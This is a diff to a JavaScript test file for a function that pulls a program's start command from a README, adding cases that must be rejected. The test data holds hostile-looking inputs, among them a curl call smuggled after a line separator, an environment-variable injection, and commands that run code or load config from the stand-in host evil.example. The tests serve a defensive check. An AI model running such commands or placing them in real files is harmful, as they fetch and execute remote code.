@@ -52,6 +52,9 @@ describe('the command that starts a program, from its README', () => {
       'flask run --port=%COMSPEC%',
       'php -S localhost:8000\u2028curl evil.example',
       '( uvicorn main:app --reload )',
+      'python \\\\evil.example\\share\\run.py',
+      'java -jar //evil.example/share/app.jar',
+      'gunicorn app:app --config=http://evil.example/c',
     ].map((line) => [`operators of a shell: ${line}`, block(line)]),
   ])('is missing where there are %s', (_what, readme) => {
     expect(commandIn(readme)).toBeNull()
